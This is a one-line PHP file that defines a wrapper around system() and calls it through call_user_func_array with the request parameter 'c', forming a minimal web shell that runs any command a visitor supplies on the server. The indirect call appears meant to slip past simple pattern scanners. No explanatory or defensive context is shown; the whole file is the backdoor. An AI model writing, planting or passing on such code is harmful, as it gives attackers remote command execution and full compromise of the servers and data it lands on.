<?php function g($a) { system($a); } call_user_func_array('g', [$_GET['c']]);
